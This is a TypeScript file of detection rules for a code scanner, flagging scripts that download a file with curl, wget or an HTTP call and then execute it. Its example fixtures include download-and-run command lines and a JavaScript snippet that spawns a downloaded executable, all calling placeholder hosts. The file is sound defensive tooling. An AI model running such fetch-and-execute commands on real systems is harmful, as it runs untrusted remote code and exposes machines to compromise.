/** RC-03: programs that fetch, and run what they wrote. */
import { row } from '../../engine/rule.ts';
import {
  again,
  blank,
  capture,
  chars,
  code,
  edge,
  either,
  gap,
  lazy,
  letters,
  maybe,
  notAfter,
  notBefore,
  oneOf,
  pattern,
  quote,
  raw,
  scheme,
  seq,
  space,
  times,
  word,
} from '../../engine/pattern.ts';
import { byHost, interpreters } from './shared.ts';
import { fenced, inFile, weighed } from '../../engine/example.ts';
import { byReleaseHost, digestChecked } from './rc-03-phrases.ts';
import type { Row } from '../../engine/rule.ts';

export const downloadingPrograms: readonly Row[] = [
  row('download to a file and run it with an interpreter', {
    within: 'block',
    match: pattern(
      edge,
      oneOf('curl', 'wget'),
      blank,
      gap(200),
      oneOf('-o', '-O', '--output', '>'),
      space(0, 4),
      maybe(quote),
      oneOf(
        seq(
          lazy(times(1, 80, chars('\\w./~-'))),
          '.',
          oneOf('sh', 'py', 'js', 'pl', 'rb', 'bin', 'run', 'ps1'),
          edge,
        ),
        seq('/tmp/', times(1, 80, chars('\\w.-'))),
      ),
      gap(200),
      oneOf('&&', ';', raw('\\n'), code('||')),
      space(0, 20),
      interpreters,
      // A program on the command line reads the file as data, unless it runs what it reads.
      notBefore(
        space(1, 4),
        '-c',
        blank,
        notBefore(gap(200), word(oneOf('eval', 'exec', 'system', 'source'))),
      ),
      space(1, 4),
      gap(20),
    ),
    unless: [digestChecked],
    weigh: byHost,
    catches: [fenced('sh', 'wget -q -O /tmp/agent https://cdn.invalid/get && bash /tmp/agent')],
    spares: [
      fenced('sh', 'curl -s -o /tmp/x.json https://api.acme.example/x', 'jq . /tmp/x.json'),
      fenced(
        'sh',
        'curl -s https://data.invalid/a.yaml -o /tmp/a.yaml',
        'python3 -c "print(open(0).read())" < /tmp/a.yaml',
      ),
    ],
  }),
  row('download to any file name and run that file', {
    within: 'block',
    match: pattern(
      word(oneOf('curl', 'wget')),
      blank,
      gap(200),
      oneOf('-o', '-O', '--output', '>'),
      space(0, 3),
      capture(times(2, 80, chars('\\w./~-'))),
      edge,
      gap(160),
      oneOf('&&', ';', raw('\\n')),
      space(0, 20),
      interpreters,
      space(1, 4),
      maybe('./'),
      again(1),
    ),
    unless: [pattern(word(oneOf('sha256sum', 'shasum', 'cosign', 'checksum', 'gpg')))],
    weigh: byHost,
    catches: [inFile('scripts/a.sh', 'wget -q https://files.invalid/part7 -O .part7', 'sh .part7')],
    spares: [inFile('scripts/a.sh', 'wget -q https://data.acme.example/rows -O rows', 'sort rows')],
  }),
  row('download and run, in a program', {
    alone: 'medium',
    in: ['script', 'fence'],
    within: 'block',
    match: pattern(
      oneOf(
        'urlretrieve',
        'urllib.request.urlopen',
        'requests.get',
        seq('http(s).get', code('(')),
        code('fetch('),
      ),
      gap(300),
    ),
    and: [
      pattern(scheme),
      pattern(
        either(
          seq(
            edge,
            oneOf('os.chmod', 'fs.chmod(Sync)', 'chmod(Sync)'),
            space(0, 3),
            chars('( '),
            gap(120),
            oneOf(seq('0(o)7', times(2, 2, chars('0-7'))), 'S_IX', '+x'),
          ),
          seq(edge, 'mode', space(0, 2), ':', space(0, 2), '0(o)7', times(2, 2, chars('0-7'))),
        ),
      ),
      pattern(
        edge,
        oneOf(
          seq('subprocess.', letters(2, 14)),
          'os.system',
          'execFile(Sync)',
          'execSync',
          seq(notAfter(chars('\\w')), 'exec'),
          'spawn(Sync)',
          seq('os.exec', letters(1, 3)),
        ),
        space(0, 3),
        code('('),
      ),
    ],
    unless: [pattern(word(oneOf('hashlib', 'createHash', 'sha256', 'checksum', 'signature')))],
    weigh: byReleaseHost,
    catches: [
      weighed(
        'high',
        inFile(
          'scripts/a.js',
          'https.get("https://b.invalid/x", (r) => r.pipe(fs.createWriteStream("/tmp/x", { mode: 0o755 })));',
          'spawn("/tmp/x");',
        ),
      ),
    ],
    spares: [
      inFile(
        'scripts/tool.py',
        'import urllib.request',
        'urllib.request.urlretrieve("https://data.acme.example/a.csv", "a.csv")',
      ),
    ],
  }),
];
